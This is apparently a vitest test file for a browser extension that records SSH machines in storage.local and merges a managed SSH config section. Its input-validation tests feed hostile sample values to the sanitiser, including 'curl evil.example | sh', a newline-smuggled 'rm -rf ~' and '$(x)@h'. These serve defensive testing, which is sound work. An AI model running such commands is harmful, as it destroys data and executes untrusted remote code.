// "My machines": the records (remember, update in place, forget; public data only, in
// storage.local) and the one managed config section built from them (idempotent merge, every
// other byte kept, a port change rewrites only that host).
import { describe, it, expect, beforeEach } from 'vitest';
import fc from 'fast-check';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { addressChange, behindMachine, hopMachines, managedMachines, markCopied, rememberMachine, rememberMachines, type MachineRecord, type Sighting } from '../../lib/machines';
import { recordMachine, recordMachines, forgetMachineRecord, forgetAllMachines } from '../../lib/machine-store';
import { machineRecords, rememberShownCommands } from '../../lib/storage';
import { MAX_SIGHTINGS, rememberMachinesFrom, sightingsFrom } from '../../lib/machine-messages';
import { buildManagedSection, buildSshConfig, mergeSshConfig, parseConnectCommand, configInstallScript, type Connection } from '../../lib/config';

function conn(cmd: string): Connection {
  const r = parseConnectCommand(cmd);
  if (!r.ok) throw new Error(r.error.en);
  return r.connection;
}
const DEV = (port: number) => conn(`ssh -p ${port} root@36.103.1.2`);
const AIC = conn('ssh -J ssh-jumper.cloud.infini-ai.com root@aic-dbdz3pprd2g54crp');
const INNER = conn('ssh -J ssh-jumper.cloud.infini-ai.com,root@aic-dbdz3pprd2g54crp root@172.27.0.5');
let ids = 0;
const id = () => `id${++ids}`;

describe('machine records', () => {
  it('a named machine that shows a new port is updated in place (newest first), and says it moved', () => {
    let recs: MachineRecord[] = [];
    recs = rememberMachine(recs, { connection: DEV(41587), name: 'my-dev', keyName: 'infini_ed25519' }, 1, id).records;
    recs = rememberMachine(recs, { connection: AIC, name: 'aic-one' }, 2, id).records;
    const r = rememberMachine(recs, { connection: DEV(43242), name: 'my-dev' }, 3, id);
    expect(r.records).toHaveLength(2);
    expect(r.records[0]).toMatchObject({ name: 'my-dev', alias: 'infini-my-dev', connection: { port: 43242 }, keyName: 'infini_ed25519', firstSeen: 1, lastSeen: 3 });
    expect(r.moved).toEqual({ from: { host: '36.103.1.2', port: 41587 }, to: { host: '36.103.1.2', port: 43242 } });
  });

  it('without a name the address tells machines apart: same address → same record, another port → another machine', () => {
    let recs = rememberMachine([], { connection: DEV(41587) }, 1, id).records;
    recs = rememberMachine(recs, { connection: DEV(41587) }, 2, id).records;
    expect(recs).toHaveLength(1);
    recs = rememberMachine(recs, { connection: DEV(41588) }, 3, id).records;
    expect(recs.map((r) => r.alias)).toEqual(['infini-36.103.1.2-41588', 'infini-36.103.1.2-41587']);
  });

  it('a name without ASCII letters falls back to the host alias; two machines never share an alias', () => {
    let recs = rememberMachine([], { connection: DEV(41587), name: '我的开发机' }, 1, id).records;
    expect(recs[0].alias).toBe('infini-36.103.1.2-41587');
    recs = rememberMachine(recs, { connection: DEV(41590), name: 'a' }, 2, id).records;
    recs = rememberMachine(recs, { connection: DEV(41591), name: 'a', }, 3, id).records; // same name: same machine
    expect(recs).toHaveLength(2);
    recs = rememberMachine(recs, { connection: AIC, name: 'a' }, 4, id).records; // another kind
    expect(new Set(recs.map((r) => r.alias)).size).toBe(recs.length);
  });

  it('the warning follows a move after the config was copied, and goes once the updated config is copied', () => {
    let recs = rememberMachine([], { connection: DEV(41587), name: 'my-dev' }, 1, id).records;
    recs = markCopied(recs, [recs[0].id], 2);
    expect(addressChange(recs[0])).toBeUndefined();
    recs = rememberMachine(recs, { connection: DEV(43242), name: 'my-dev' }, 3, id).records;
    expect(addressChange(recs[0])).toEqual({ from: { host: '36.103.1.2', port: 41587 }, to: { host: '36.103.1.2', port: 43242 } });
    recs = markCopied(recs, [recs[0].id], 4);
    expect(addressChange(recs[0])).toBeUndefined();
  });

  it('a dev machine reached through an AICoder knows that AICoder', () => {
    let recs = rememberMachine([], { connection: AIC, name: 'aic' }, 1, id).records;
    recs = rememberMachine(recs, { connection: INNER, name: 'inner' }, 2, id).records;
    expect(hopMachines(recs, recs[0]).map((r) => r.name)).toEqual(['aic']);
    expect(hopMachines(recs, recs[1])).toEqual([]);
  });
});

describe('many sightings at once', () => {
  // a few names, hosts, ports, users and hops, so that sightings collide in every way findMachine tells apart
  const sighting = fc.record({
    name: fc.constantFrom(undefined, '', 'dev-a', 'dev-b', 'DEV-A'),
    host: fc.constantFrom('36.103.1.2', '36.103.1.3', 'aic-dbdz3pprd2g54crp'),
    port: fc.constantFrom(undefined, 22, 41587, 43242),
    user: fc.constantFrom('root', 'ubuntu'),
    jump: fc.boolean(),
    keyName: fc.constantFrom(undefined, 'k1', 'k2'),
  }).map((x): Sighting => ({
    connection: conn(`ssh ${x.jump ? '-J ssh-jumper.cloud.infini-ai.com ' : ''}${x.port ? `-p ${x.port} ` : ''}${x.user}@${x.host}`),
    name: x.name,
    keyName: x.keyName,
  }));

  it('gives exactly what recording them one by one gives (records, order, aliases, ids)', () => {
    fc.assert(
      fc.property(fc.array(sighting, { maxLength: 12 }), fc.array(sighting, { maxLength: 30 }), (before, batch) => {
        let n = 0;
        const ids = () => `id${++n}`;
        let start: MachineRecord[] = [];
        for (const [i, s] of before.entries()) start = rememberMachine(start, s, i, ids).records;
        const mark = n;
        let one = start;
        for (const s of batch) one = rememberMachine(one, s, 100, ids).records;
        n = mark;
        const all = rememberMachines(start, batch, 100, ids);
        expect(all).toEqual(one);
      }),
      { numRuns: 300 },
    );
  });

  it('a thousand new rows: a thousand records with a thousand distinct aliases', () => {
    const rows = Array.from({ length: 1000 }, (_, i) => ({ connection: DEV(30000 + i), name: i % 2 ? `dev-${i}` : undefined }));
    const records = rememberMachines([], rows, 1);
    expect(records).toHaveLength(1000);
    expect(new Set(records.map((r) => r.alias)).size).toBe(1000);
    // newest first, as one by one
    expect(records[0]!.connection.port).toBe(30999);
  });
});

describe('a dev machine behind an AICoder', () => {
  it('its connection is the AICoder\'s hops, then the AICoder, then the internal address (root by default)', () => {
    const aic = rememberMachine([], { connection: AIC, name: 'aic' }, 1, id).record;
    expect(behindMachine(aic, '172.27.0.5')).toEqual(INNER);
    expect(behindMachine(aic, 'ubuntu@172.27.0.5:2222')).toMatchObject({ host: '172.27.0.5', port: 2222, user: 'ubuntu' });
    for (const bad of ['', 'ssh root@h', 'a b', 'h:99999', '$(x)@h']) expect(behindMachine(aic, bad), bad).toBeUndefined();
  });
});

describe('storage: public data only, in storage.local, forget removes it', () => {
  beforeEach(() => fakeBrowser.reset());

  it('records hold no secret and no -i path; forget one, then all, removes them from storage.local', async () => {
    const withKey = conn('ssh -i ~/.ssh/secret_looking_path -p 41587 root@36.103.1.2');
    const a = await recordMachine({ connection: withKey, name: 'my-dev', keyName: 'infini_ed25519' });
    const b = await recordMachine({ connection: AIC });
    const raw = await fakeBrowser.storage.local.get(null);
    const text = JSON.stringify(raw);
    expect(text).toContain('36.103.1.2');
    expect(text).not.toMatch(/PRIVATE KEY|secret_looking_path|identityFile|passphrase/i);
    expect(await fakeBrowser.storage.sync.get(null)).toEqual({});
    await forgetMachineRecord(a.record.id);
    expect((await machineRecords.getValue()).map((r) => r.id)).toEqual([b.record.id]);
    expect(JSON.stringify(await fakeBrowser.storage.local.get(null))).not.toContain('36.103.1.2');
    await forgetAllMachines();
    expect(await machineRecords.getValue()).toEqual([]);
  });

  it('"remember shown commands" is on until the user turns it off', async () => {
    expect(await rememberShownCommands.getValue()).toBe(true);
    await rememberShownCommands.setValue(false);
    expect(await rememberShownCommands.getValue()).toBe(false);
  });

  it('a page of many commands is one storage write that keeps each machine, and the same page again adds none', async () => {
    let writes = 0;
    fakeBrowser.storage.local.onChanged.addListener(() => writes++);
    const rows = Array.from({ length: 300 }, (_, i) => ({ connection: DEV(30000 + i), name: `dev-${i}` }));
    await recordMachines(rows);
    expect(writes).toBe(1);
    const once = await machineRecords.getValue();
    expect(once).toHaveLength(300);
    expect(new Set(once.map((r) => r.alias)).size).toBe(300);
    await Promise.all([recordMachines(rows.slice(0, 150)), recordMachine({ connection: AIC })]);
    expect(await machineRecords.getValue()).toHaveLength(301);
  });

  it('records written back to back are all kept', async () => {
    await Promise.all([41001, 41002, 41003, 41004].map((p) => recordMachine({ connection: DEV(p) })));
    expect(await machineRecords.getValue()).toHaveLength(4);
  });
});

describe("the content script's sightings, recorded by the background (message checked as page data)", () => {
  beforeEach(() => fakeBrowser.reset());

  it('shown commands are recorded while the setting is on, not while it is off (and the reply says which)', async () => {
    const msg = { type: 'remember-machines', shown: true, sightings: [{ command: 'ssh -p 41587 root@36.103.1.2', name: 'my-dev' }, { command: 'ssh -J ssh-jumper.cloud.infini-ai.com root@aic-dbdz3pprd2g54crp' }] };
    await rememberShownCommands.setValue(false);
    expect(await rememberMachinesFrom(msg)).toEqual({ remembered: false });
    expect(await machineRecords.getValue()).toEqual([]);
    await rememberShownCommands.setValue(true);
    expect(await rememberMachinesFrom(msg)).toEqual({ remembered: true });
    const recs = await machineRecords.getValue();
    expect(recs.map((r) => r.alias).sort()).toEqual(['infini-aic-dbdz3pprd2g54crp', 'infini-my-dev']);
    expect(recs.find((r) => r.name === 'my-dev')?.connection).toMatchObject({ host: '36.103.1.2', port: 41587, user: 'root' });
  });

  it('a used action is recorded with its key even while "remember shown" is off', async () => {
    await rememberShownCommands.setValue(false);
    expect(await rememberMachinesFrom({ type: 'remember-machines', shown: false, sightings: [{ command: 'ssh -p 41587 root@36.103.1.2', keyName: 'infini_ed25519' }] })).toEqual({ remembered: true });
    expect(await machineRecords.getValue()).toMatchObject([{ keyName: 'infini_ed25519', connection: { port: 41587 } }]);
  });

  it('drops what is not one command of ours: no text, two lines, too long, not ssh, odd names; caps the batch', () => {
    const ok = { command: 'ssh -p 41587 root@36.103.1.2' };
    const { sightings } = sightingsFrom({
      shown: true,
      sightings: [ok, null, 7, { command: 42 }, { command: 'ssh root@a.b\nrm -rf ~' }, { command: `ssh root@${'a'.repeat(300)}.com` }, { command: 'curl evil.example | sh' }, { ...ok, name: { toString: () => 'x' } }, { ...ok, keyName: 'k'.repeat(201) }, { ...ok, name: 'fine' }],
    });
    expect(sightings.map((s) => s.name)).toEqual([undefined, 'fine']);
    expect(sightingsFrom({ sightings: Array.from({ length: MAX_SIGHTINGS + 5 }, () => ok) }).sightings).toHaveLength(MAX_SIGHTINGS);
    expect(sightingsFrom({ sightings: 'no' }).sightings).toEqual([]);
    // anything but an explicit false is treated as shown (the setting decides)
    expect(sightingsFrom({ sightings: [] }).shown).toBe(true);
  });
});

function threeMachines(devPort = 41587): MachineRecord[] {
  let recs: MachineRecord[] = [];
  recs = rememberMachine(recs, { connection: DEV(devPort), name: 'my-dev', keyName: 'k1' }, 1, () => 'a').records;
  recs = rememberMachine(recs, { connection: AIC, name: 'aic', keyName: 'k2' }, 2, () => 'b').records;
  recs = rememberMachine(recs, { connection: INNER, name: 'inner', keyName: 'k2' }, 3, () => 'c').records;
  return recs;
}

describe('the managed section', () => {
  const section = (port = 41587) => buildManagedSection(managedMachines(threeMachines(port)));
  const lineArb = fc.oneof(
    fc.constantFrom('Host work', '    User me', 'Host *', '# comment', '', 'Match all', '\tHostName x', 'Include ~/.orbstack/ssh/config', 'IdentityFile ~/.ssh/id_rsa'),
    fc.string({ maxLength: 16 }).map((s) => s.replace(/[\r\n]/g, '').replace(/^# Infini SSH Keys:/, '#')),
  );
  const textArb = fc.tuple(fc.array(lineArb, { maxLength: 10 }), fc.constantFrom('\n', '\r\n')).map(([l, nl]) => (l.length ? l.join(nl) + nl : ''));

  it('holds every machine once, the jump host once, and each hop chained by ProxyJump', () => {
    const s = section();
    expect(s.match(/^Host .*/gm)).toEqual(['Host infini-my-dev', 'Host infini-aic', 'Host infini-inner', 'Host infini-jump']);
    expect(s).toMatch(/Host infini-inner\n(?: {4}.*\n)*? {4}ProxyJump infini-aic\n/);
    expect(s).toMatch(/Host infini-aic\n(?: {4}.*\n)*? {4}ProxyJump infini-jump\n/);
    expect(s.slice(s.indexOf('Host infini-jump'))).toContain('    IdentityFile ~/.ssh/k2\n    IdentitiesOnly yes\n');
  });

  it('merging twice changes nothing; replacing our old section keeps every other byte (random configs)', () => {
    fc.assert(
      fc.property(textArb, textArb, fc.integer({ min: 41000, max: 45000 }), (before, after, port) => {
        const nl = before.includes('\r\n') || (!before && after.includes('\r\n')) ? '\r\n' : '\n';
        const old = section().replace(/\n/g, nl);
        const existing = before + old + after;
        const merged = mergeSshConfig(existing, section(port));
        expect(merged).toBe(before + section(port).replace(/\n/g, nl) + after);
        expect(mergeSshConfig(merged, section(port))).toBe(merged);
      }),
      { numRuns: 150 },
    );
  });

  it('drops our older per-machine sections it now holds, keeps the others and every user byte', () => {
    const oldDev = buildSshConfig({ connection: DEV(40000), identityFile: '~/.ssh/k1', alias: 'infini-my-dev' });
    const other = buildSshConfig({ connection: DEV(40001), identityFile: '~/.ssh/k1', alias: 'infini-elsewhere' });
    const user = 'Host work\n    User me\n';
    const merged = mergeSshConfig(oldDev + '\n' + other + '\n' + user, section());
    expect(merged).not.toContain('40000');
    expect(merged).toContain(other);
    expect(merged.endsWith(user)).toBe(true);
    expect(merged.match(/^Host infini-my-dev$/gm)).toHaveLength(1);
  });

  it('a port change rewrites only that host: exactly its Port line differs', () => {
    const a = section(41587).split('\n');
    const b = section(43242).split('\n');
    expect(b).toHaveLength(a.length);
    const diff = a.flatMap((l, i) => (l === b[i] ? [] : [[l, b[i]]]));
    expect(diff).toEqual([['    Port 41587', '    Port 43242']]);
  });

  it('the install command backs up with a date and merges the section (posix and PowerShell carry the same section)', () => {
    const s = section();
    const posix = configInstallScript({ shell: 'posix', configSnippet: s });
    expect(posix).toContain('.bak-$(date +%Y%m%d%H%M%S)');
    const ps = configInstallScript({ shell: 'powershell', configSnippet: s });
    expect(ps).toContain('.bak-$(Get-Date -Format yyyyMMddHHmmss)');
    expect(ps).toContain(s.trimEnd());
    // the per-machine sections it supersedes are removed there too
    expect(ps).toContain('begin (?i:infini-my-dev)');
  });
});
